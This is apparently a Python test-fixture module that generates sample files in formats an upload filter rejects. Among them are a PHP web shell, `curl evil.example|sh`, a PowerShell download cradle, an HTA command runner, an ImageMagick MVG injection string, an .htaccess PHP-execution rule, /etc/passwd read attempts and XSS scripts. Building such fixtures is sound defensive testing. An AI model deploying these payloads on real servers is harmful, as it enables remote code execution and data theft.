"""Files of formats that are not accepted, complete enough for a program to recognise them."""
# ruff: noqa: E501  # tables, where a case is one line

import bz2
import functools
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

from testkit.corpus.ebml_bytes import document, track
from testkit.corpus.isobmff_bytes import box, film, ftyp, full
from testkit.corpus.riff_bytes import chunk, riff
from testkit.corpus.tiff_bytes import BYTE, LONG, SHORT, Page, gray, picture_tags, rgb, tiff
from testkit.corpus.tools import clip, sound

_STAMP = (2024, 1, 1, 0, 0, 0)
PHP = b"<?php system($_GET['c']); ?>"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>\n"
JS = b"alert(document.domain);//"


def zipped(files: dict[str, bytes], *, comment: bytes = b"", stored: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name, _STAMP), content)
        archive.comment = comment
    return out.getvalue()


@functools.cache
def archives() -> dict[str, bytes]:
    """Returns archives and disk images."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("evil.sh")
        info.size = 10
        archive.addfile(info, io.BytesIO(b"#!/bin/sh\n"))
    rar5 = b"Rar!\x1a\x07\x01\0" + bytes.fromhex("3392b5e50a010506000501018080") + bytes(60)
    jar = {"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": java_class()}
    content = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return {
        "zip": zipped({"evil.sh": b"#!/bin/sh\nid\n" * 9}),
        "zip-stored": zipped({"evil.sh": b"#!/bin/sh\nid\n"}, stored=True),
        "zip-empty": zipped({}),
        "jar": zipped(jar),
        "apk": zipped({"AndroidManifest.xml": bytes(40), "classes.dex": b"dex\n035\0" + bytes(200)}),
        "docx": zipped({"[Content_Types].xml": content, "word/document.xml": b"<w:document/>"}),
        "xlsm": zipped({"[Content_Types].xml": content, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(99)}),
        "odt": zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}, stored=True),
        "epub": zipped({"mimetype": b"application/epub+zip", "a.xhtml": HTML}, stored=True),
        "rar4": b"Rar!\x1a\x07\0\xcf\x90\x73\0\0\x0d" + bytes(80),
        "rar5": rar5,
        "7z": b"7z\xbc\xaf\x27\x1c\0\x04" + struct.pack("<IQQI", 0, 100, 30, 0) + bytes(130),
        "cab": b"MSCF\0\0\0\0" + struct.pack("<IIIBBHHHHH", 200, 0, 44, 3, 1, 1, 1, 0, 0, 0) + bytes(164),
        "tar": out.getvalue(),
        "gzip": gzip.compress(b"evil" * 99, mtime=0),
        "bzip2": bz2.compress(b"evil" * 99),
        "xz": lzma.compress(b"evil" * 99),
        "zstd": b"\x28\xb5\x2f\xfd\x04\x58" + bytes(60),
        "lz4": b"\x04\x22\x4d\x18\x64\x40\xa7" + bytes(60),
        "lha": b"\x21\x00-lh5-" + bytes(90),
        "arj": b"\x60\xea\x29\0\x1e\x06\x01\0" + bytes(90),
        "ar": b"!<arch>\ndebian-binary   1410122664  0     0     100644  4         `\n2.0\n",
        "rpm": b"\xed\xab\xee\xdb\x03\0\0\0\0\x01evil-1.0" + bytes(200),
        "cpio": b"070701" + b"0" * 104 + b"TRAILER!!!\0",
        "iso": bytes(32768) + b"\x01CD001\x01\0" + bytes(2040) + b"\xffCD001\x01" + bytes(2041),
        "squashfs": b"hsqs" + bytes(92),
        "dmg": bytes(600) + b"koly" + struct.pack(">II", 4, 512) + bytes(500),
    }


def java_class() -> bytes:
    return bytes.fromhex("cafebabe00000034001d0a0006000f0900100011") + bytes(200)


@functools.cache
def programs() -> dict[str, bytes]:
    """Returns executables."""
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQ", 2, 62, 1, 0x400078, 64, 0) + bytes(200)
    pe = (
        b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff"
        + bytes(46)
        + struct.pack("<I", 128)
        + bytes(64)
        + b"PE\0\0\x64\x86"
        + bytes(300)
    )
    lnk = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x9b\0\x08\0" + bytes(200)
    return {
        "elf": elf, "pe": pe, "dos": b"MZ" + bytes(60) + b"\xb4\x4c\xcd\x21", "com": b"\xeb\xfe\x90\x90" * 20,
        "macho": b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0" + bytes(200),
        "macho-fat": b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07" + bytes(200),
        "class": java_class(), "wasm": b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0" + bytes(40),
        "dex": b"dex\n035\0" + bytes(200), "lnk": lnk, "pyc": b"\xf3\x0d\x0d\x0a" + bytes(100),
        "swf": b"FWS\x0a" + struct.pack("<I", 200) + bytes(192), "swf-zlib": b"CWS\x0a\xc8\0\0\0" + zlib.compress(bytes(192)),
        "crx": b"Cr24\x03\0\0\0" + bytes(100), "lua": b"\x1bLua\x53\0\x19\x93\r\n\x1a\n" + bytes(80),
    }  # fmt: skip


TEXTS: dict[str, bytes] = {
    "html": HTML, "html-bare": b"<script>alert(1)</script>", "html-late": b"\n" * 600 + HTML, "php": PHP, "php-short": b"<?=`id`?>",
    "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "hta": b'<html><hta:application id="x"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></html>',
    "shell": b"#!/bin/sh\ncurl evil.example|sh\n", "python": b"#!/usr/bin/env python3\nimport os; os.system('id')\n",
    "batch": b"@echo off\r\ncalc.exe\r\n", "powershell": b"powershell -nop -c IEX(New-Object Net.WebClient)\r\n",
    "javascript": b"var a = 1; eval(String.fromCharCode(97,108,101,114,116));\n", "vbs": b'MsgBox "x"\r\n',
    "asp": b'<%@ Language="VBScript" %><% Response.Write(1) %>', "jsp": b'<%@ page import="java.io.*" %><% out.print(1); %>',
    "xml": b'<?xml version="1.0"?><root><a/></root>', "json": b'{"a": [1, 2, 3]}', "csv": b"a,b,c\n1,2,3\n" * 20,
    "text": b"Just a note to say hello.\n" * 9, "rtf": b"{\\rtf1\\ansi{\\object\\objocx}}", "eml": b"From: a@b\r\nSubject: x\r\n\r\nhi",
    "mhtml": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n", "ics": b"BEGIN:VCALENDAR\r\nEND:VCALENDAR",
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
    "ps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\nshowpage\n", "htaccess": b"AddType application/x-httpd-php .jpg\n",
    "xslt": b'<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
    "m3u": b"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nfile:///etc/passwd\n", "concat": b"ffconcat version 1.0\nfile /etc/passwd\n",
    "mvg": b"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'https://evil.example/x.png\"|id\"'\npop graphic-context\n",
    "msl": b'<?xml version="1.0"?><image><read filename="caption:x"/><write filename="/tmp/x.php"/></image>',
    "xpm": b'/* XPM */\nstatic char *x[] = {"1 1 1 1","a c #fff","a"};\n', "pem": b"-----BEGIN RSA PRIVATE KEY-----\nMIIE\n",
    "utf16-html": "\ufeff<html><script>alert(1)</script>".encode("utf-16-le"),
}  # fmt: skip


@functools.cache
def pictures() -> dict[str, bytes]:
    """Returns images of formats that are not accepted."""
    heic = box(b"meta", bytes(4), full(b"hdlr", bytes(4), b"pict", bytes(13))) + box(b"mdat", bytes(500))
    raw = {0x828D: (SHORT, (2, 2)), 0x828E: (BYTE, b"\0\x01\x01\x02")}
    dng = Page(picture_tags(photometric=32803) | raw | {0xC612: (BYTE, b"\x01\x04\0\0")}, gray().strips)
    jxl = b"\0\0\0\x0cJXL \r\n\x87\n"
    return {
        "heic": ftyp(b"heic", b"mif1", b"heic") + heic, "heic-mif1": ftyp(b"mif1", b"mif1", b"heic") + heic,
        "heix": ftyp(b"heix", b"mif1", b"heix") + heic, "avif": ftyp(b"avif", b"avif", b"mif1", b"miaf") + heic,
        "heic-sequence": ftyp(b"hevc", b"msf1", b"hevc") + heic, "avif-sequence": ftyp(b"avis", b"avis", b"msf1") + heic,
        "cr3": ftyp(b"crx ", b"crx ", b"isom", minor=1) + box(b"moov", box(b"uuid", bytes(40))) + box(b"mdat", bytes(99)),
        "jp2": b"\0\0\0\x0cjP  \r\n\x87\n" + ftyp(b"jp2 ", b"jp2 ") + box(b"jp2h", bytes(40)) + box(b"jp2c", bytes(40)),
        "j2k": b"\xff\x4f\xff\x51\0\x29" + bytes(200), "jxl": jxl + ftyp(b"jxl ", b"jxl ") + box(b"jxlc", bytes(99)),
        "jxl-bare": b"\xff\x0a" + bytes(range(200)), "jxr": b"II\xbc\x01\x08\0\0\0" + bytes(99),
        "bigtiff": struct.pack("<2sHHHQQ", b"II", 43, 8, 0, 16, 0) + bytes(200), "dng": tiff(dng),
        "bigtiff-mm": struct.pack(">2sHHHQQ", b"MM", 43, 8, 0, 16, 0) + bytes(200),
        "cr2": tiff(rgb(), head=struct.pack("<2sBBI", b"CR", 2, 0, 0)),
        "orf": b"IIRO" + tiff(rgb())[4:], "rw2": b"IIU\0" + tiff(rgb())[4:], "raf": b"FUJIFILMCCD-RAW 0201FF129502" + bytes(300),
        "nef": tiff(Page(
            rgb().tags | {0x00FE: (LONG, (1,)), 0x010F: (2, b"NIKON CORPORATION\0")}, rgb().strips,
            below=(Page(picture_tags(photometric=32803, compression=34713) | raw, gray().strips),),
        )),
        "ico": b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x68\x04\0\0\x16\0\0\0" + bytes(1128), "cur": b"\0\0\x02\0\x01\0" + bytes(99),
        "psd": b"8BPS\0\x01" + bytes(6) + struct.pack(">HIIHH", 3, 9, 9, 8, 3) + bytes(300), "exr": b"\x76\x2f\x31\x01\x02\0\0\0" + bytes(99),
        "qoi": b"qoif\0\0\0\x01\0\0\0\x01\x03\0" + bytes(8), "hdr": b"#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\n\1\1\1\1",
        "pcx": b"\x0a\x05\x01\x08" + bytes(200), "ppm": b"P6\n2 2\n255\n" + bytes(12), "dds": b"DDS |\0\0\0" + bytes(120),
        "xcf": b"gimp xcf v011\0" + bytes(99), "djvu": b"AT&TFORM\0\0\0\x40DJVUINFO" + bytes(60), "fits": b"SIMPLE  =                    T" + b" " * 2850,
        "wmf": b"\xd7\xcd\xc6\x9a" + bytes(90), "emf": struct.pack("<II", 1, 108) + bytes(32) + b" EMF" + bytes(64), "mng": b"\x8aMNG\r\n\x1a\n" + bytes(60),
        "jng": b"\x8bJNG\r\n\x1a\n" + bytes(60), "ani": riff(b"ACON", chunk(b"anih", bytes(36))), "bpg": b"BPG\xfb" + bytes(60), "flif": b"FLIF\x31\x31" + bytes(60),
        "tga": b"\0\0\x02" + bytes(9) + b"\x04\0\x04\0\x18\0" + bytes(48) + bytes(8) + b"TRUEVISION-XFILE.\0",
    }  # fmt: skip


@functools.cache
def media() -> dict[str, bytes]:
    """Returns audio files, and videos in containers that are not accepted."""
    h264 = "-c:v libx264 -preset ultrafast -pix_fmt yuv420p"
    threegp = "-c:v h263 -s 176x144"
    return {
        "mkv": clip("mkv", h264, audio="-c:a aac"), "mkv-vp9": clip("mkv", "-c:v libvpx -deadline good -cpu-used 5"),
        "mka": sound("mka", "-c:a libopus"), "webm-sound": sound("webm", "-c:a libopus"),
        "webm-subtitles-only": document(b"webm", track(17, b"D_WEBVTT/SUBTITLES")),
        "mpegts": clip("ts", "-c:v mpeg2video -r 25", audio="-c:a mp2"), "m2ts": clip("m2ts", h264, audio="-c:a ac3"),
        "flv": clip("flv", "-c:v flv1", audio="-c:a libmp3lame"), "ogv": clip("ogv", "-c:v libtheora", audio="-c:a libvorbis"),
        "3gp": clip("3gp", threegp), "3g2": clip("3g2", threegp), "mxf": clip("mxf", "-c:v mpeg2video -r 25"), "nut": clip("nut", "-c:v mpeg4"),
        "ivf": clip("ivf", "-c:v libvpx -deadline good -cpu-used 5"), "h264-bare": clip("h264", h264),
        "m4a": sound("m4a", "-c:a aac"), "mp4-sound": sound("mp4", "-c:a aac"), "mov-sound": sound("mov", "-c:a pcm_s16le"),
        "m4b": film().last(ftyp(b"M4B ", b"M4B ", b"mp42")), "m4p": film().last(ftyp(b"M4P ", b"M4P ", b"mp42")),
        "3gp5-brand": film().last(ftyp(b"3gp5", b"3gp5")), "3g2a-brand": film().last(ftyp(b"3g2a", b"3g2a")),
        "heic-brand-on-film": film().last(ftyp(b"heic", b"mif1", b"heic")), "mj2-brand": film().last(ftyp(b"mjp2", b"mjp2")),
        "wma": sound("wma", "-c:a wmav2"), "mpeg-sound": sound("mpg", "-c:a mp2"), "avi-sound": sound("avi", "-c:a pcm_s16le"),
        "mp3": sound("mp3", "-c:a libmp3lame"), "mp3-id3": b"ID3\x04\0\0\0\0\0\x40" + bytes(64) + sound("mp3", "-c:a libmp3lame -id3v2_version 0"),
        "wav": sound("wav", ""), "aac": sound("aac", "-c:a aac"), "flac": sound("flac", ""), "ogg": sound("ogg", "-c:a libvorbis"),
        "aiff": sound("aiff", ""), "caf": sound("caf", ""), "amr": b"#!AMR\n" + bytes(99), "midi": b"MThd\0\0\0\x06\0\0\0\x01\0\x60MTrk" + bytes(20),
        "rm": b".RMF\0\0\0\x12\0\0" + bytes(99), "cdxa": riff(b"CDXA", chunk(b"fmt ", bytes(16)), chunk(b"data", bytes(2352))),
        "rifx": b"RIFX\0\0\0\x40AVI " + bytes(60), "rmi": riff(b"RMID", chunk(b"data", b"MThd" + bytes(20))), "w64": sound("w64", ""),
    }  # fmt: skip


OTHERS: dict[str, bytes] = {
    "ole2": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\0\x03\0\xfe\xff\x09\0" + bytes(1000),
    "sqlite": b"SQLite format 3\0\x10\0\x01\x01\0\x40\x20\x20" + bytes(200), "pcap": b"\xd4\xc3\xb2\xa1\x02\0\x04\0" + bytes(60),
    "woff": b"wOFF\0\x01\0\0" + bytes(99), "ttf": b"\0\x01\0\0\0\x0c\0\x80\0\x03\0\x40" + bytes(200), "chm": b"ITSF\x03\0\0\0" + bytes(99),
    "torrent": b"d8:announce35:http://tracker.example/announce4:infod6:lengthi1eee", "vmdk": b"KDMV\x01\0\0\0" + bytes(99),
    "plist": b"bplist00\xd1\x01\x02" + bytes(60), "qcow": b"QFI\xfb\0\0\0\x03" + bytes(99), "luks": b"LUKS\xba\xbe\0\x01" + bytes(99),
    "reg": b"REGEDIT4\r\n\r\n[HKEY_CURRENT_USER]\r\n", "url": b"[InternetShortcut]\r\nURL=file://evil.example/x\r\n",
    "zeros": bytes(5000), "ones": b"\xff" * 5000, "one-byte": b"\0", "two-bytes": b"BM", "spaces": b" " * 5000, "newlines": b"\n" * 70000,
}  # fmt: skip
